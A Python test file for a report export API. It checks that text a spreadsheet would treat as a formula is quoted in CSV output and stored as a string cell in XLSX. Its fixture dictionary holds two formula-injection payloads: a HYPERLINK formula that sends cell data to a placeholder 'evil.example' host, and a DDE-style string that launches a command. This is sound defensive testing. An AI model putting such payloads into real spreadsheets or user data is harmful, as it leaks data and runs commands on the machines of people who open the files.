"""Text a spreadsheet would run as a formula stays text in every export (CSV and XLSX)."""

from __future__ import annotations

import csv
import io

import openpyxl
from fastapi.testclient import TestClient

from tests.fixtures.auth import Caller
from tests.fixtures.factories import Factory, days

HOSTILE = {
    "supplier": '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "template": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_formula_text_is_quoted_in_csv_and_a_string_cell_in_xlsx(
    client: TestClient, viewer: Caller, factory: Factory
) -> None:
    project = factory.project()
    factory.assign(project, factory.supplier(name=HOSTILE["supplier"]))
    factory.template(project, name=HOSTILE["template"], canonical_due=days(20))
    params = {"projectId": project.id}
    exported = client.get("/api/reports/task-instances", params=params, headers=viewer.headers)
    assert exported.status_code == 200, exported.text
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    for text in HOSTILE.values():
        assert "'" + text in cells  # stored as sent, shown as text
        assert text not in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
    workbook = client.get(
        "/api/reports/task-instances",
        params={**params, "format": "xlsx"},
        headers=viewer.headers,
    )
    assert workbook.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None
    found = {cell.value: cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
    for text in HOSTILE.values():
        assert found.get(text) == "s"  # a string cell, never a formula ("f")
